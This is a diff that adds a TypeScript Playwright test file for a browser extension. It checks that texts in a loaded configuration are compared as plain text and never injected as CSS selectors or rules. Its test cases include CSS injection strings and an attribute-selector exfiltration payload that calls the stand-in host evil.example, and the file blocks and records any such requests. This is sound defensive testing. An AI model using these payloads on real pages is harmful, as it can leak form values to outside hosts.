@@ -1,0 +1,154 @@
+/** Texts of a file that would like to be selectors, and a file whose taking-over is cut off. */
+import type { Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
+import { type Installed, install } from './extension';
+import { HOSTILE, serve, visit } from './hostile-page';
+import { DEMO_STANDARD } from './standards';
+import { labelsInOrder, loadStandard, until } from './steps';
+
+const SHOWN = ['Сделки', 'Задачи', 'Чат'];
+const HIDDEN = ['Лента', 'Диск', 'Почта', 'Календарь'];
+
+let ext: Installed;
+let page: Page;
+/** Everything that the overlay's styles say on a page under a harmless standard. */
+let plainStyles: string[];
+let foreignRequests: string[];
+
+beforeAll(async () => {
+  ext = await install();
+  await ext.ask('site/enable', { origin: HOSTILE });
+  await serve(ext, { body: '<form><label>Бюджет <input name="budget" value="abc"></label></form>' });
+  foreignRequests = [];
+  await ext.context.route('https://evil.example/**', (route) => {
+    foreignRequests.push(route.request().url());
+    return route.abort();
+  });
+  await loadStandard(ext, DEMO_STANDARD, HOSTILE);
+  page = await visit(ext);
+  await untilOrdered();
+  plainStyles = await styles();
+});
+afterAll(() => ext?.close());
+afterEach(() => page?.close());
+
+const untilOrdered = () =>
+  until(
+    () => labelsInOrder(page.locator('nav a')),
+    (seen) => seen[0] === SHOWN[0] && !seen.includes('Диск'),
+  );
+
+const styles = () =>
+  page.evaluate(() =>
+    document.adoptedStyleSheets.flatMap((sheet) => [...sheet.cssRules].map(({ cssText }) => cssText)).sort(),
+  );
+
+/** The demo's standard with these texts wherever a file may carry words to look for. */
+function standardThatSays(texts: readonly string[], version: number): object {
+  const { dictionary, cards } = DEMO_STANDARD;
+  const [text = ''] = texts;
+  return {
+    ...DEMO_STANDARD,
+    version,
+    dictionary: {
+      ...dictionary,
+      menu: { ...dictionary.menu, deals: { labels: ['Сделки', ...texts] } },
+      fields: { ...dictionary.fields, budget: { labels: ['Бюджет', ...texts] } },
+      stages: { ...dictionary.stages, offer: ['КП отправлено', ...texts] },
+    },
+    cards: {
+      deal: {
+        ...cards.deal,
+        blocks: [{ id: 'a', title: text, fields: ['budget'] }],
+        hints: { budget: text },
+        placeholders: { budget: [text] },
+      },
+    },
+    anchors: {
+      place: {
+        kind: 'item',
+        as: 'deals',
+        labels: [text],
+        parts: [text],
+        names: { 'data-id': text },
+        shape: text,
+      },
+    },
+  };
+}
+
+let version = 1;
+/** Takes the texts over and opens the page. */
+async function visitUnder(texts: readonly string[]): Promise<void> {
+  version += 1;
+  await loadStandard(ext, standardThatSays(texts, version), HOSTILE);
+  page = await visit(ext);
+  await untilOrdered();
+}
+
+const CASES = {
+  'F10: a text that closes a rule and opens another': ['a{}', '.x}body{display:none', '.x{color:red}*'],
+  'F11: a text that would swallow the rules after it': [
+    '.a/*',
+    ':is(',
+    '.x\\',
+    '.a;',
+    '@import url(x)',
+    '<!--',
+  ],
+  'F12: a text that would name everything, or us': [
+    '*',
+    'html',
+    'body',
+    ':root',
+    ':not(x)',
+    '&',
+    'prelude-host',
+  ],
+  'F13: a text that would read values and carry them away': [
+    'input[value^="a"]',
+    'input[value^="a"]{background:url(https://evil.example/a)}',
+  ],
+  'F14: a text of pseudo-elements and pseudo-classes': ['::before', 'a:visited', ':has(:has(a))', ':where()'],
+  'F15: a text that would cost much as a selector': [
+    ':has(* *)',
+    `${'*:nth-child(2n) '.repeat(7)}*`,
+    `:is(${'a,'.repeat(50)}b)`,
+  ],
+} as const;
+
+for (const [name, texts] of Object.entries(CASES)) {
+  test(`${name} is compared as text, changes no style, and the rules after it hold`, async () => {
+    await visitUnder(texts);
+    expect(await labelsInOrder(page.locator('nav a'))).toEqual([...SHOWN, 'Отчёты']);
+    for (const label of HIDDEN) expect(await page.getByText(label, { exact: true }).isVisible()).toBe(false);
+    for (const whole of ['body', 'main', 'table', 'input'])
+      expect(await page.locator(whole).first().isVisible()).toBe(true);
+    expect(await page.locator('prelude-host').count()).toBe(1);
+    expect(await styles()).toEqual(plainStyles);
+    expect(foreignRequests).toEqual([]);
+  });
+}
+
+test('no style of ours asks for anything from anywhere', () => {
+  expect(plainStyles.length).toBeGreaterThan(0);
+  expect(plainStyles.filter((rule) => /url\(|@import/i.test(rule))).toEqual([]);
+});
+
+test('F27: a taking-over that is cut off leaves the old standard or the new one, whole', async () => {
+  const names = ['Первый', 'Второй'];
+  for (const turn of [0, 1, 2, 3]) {
+    const standard = { ...DEMO_STANDARD, id: `line-${turn}`, name: names[turn % 2] };
+    const preview = await ext.ask('standard/preview', { text: JSON.stringify(standard), origin: HOSTILE });
+    if (!preview.ok) throw new Error('The file does not read.');
+    const cut = ext.ask('standard/apply', { hash: preview.hash }).catch(() => null);
+    await ext.stopWorker();
+    await cut;
+    const { standard: summary, effective, life } = await ext.ask('settings/get', { origin: HOSTILE });
+    expect(summary?.name).toBe(life?.kept[0]?.name);
+    expect(effective?.standard?.name).toBe(summary?.name);
+    expect(effective?.menu?.order.map(({ id }) => id)).toEqual(['deals', 'tasks', 'chat']);
+    await ext.ask('standard/apply', { hash: preview.hash });
+    expect((await ext.ask('settings/get', { origin: HOSTILE })).standard?.name).toBe(standard.name);
+  }
+});
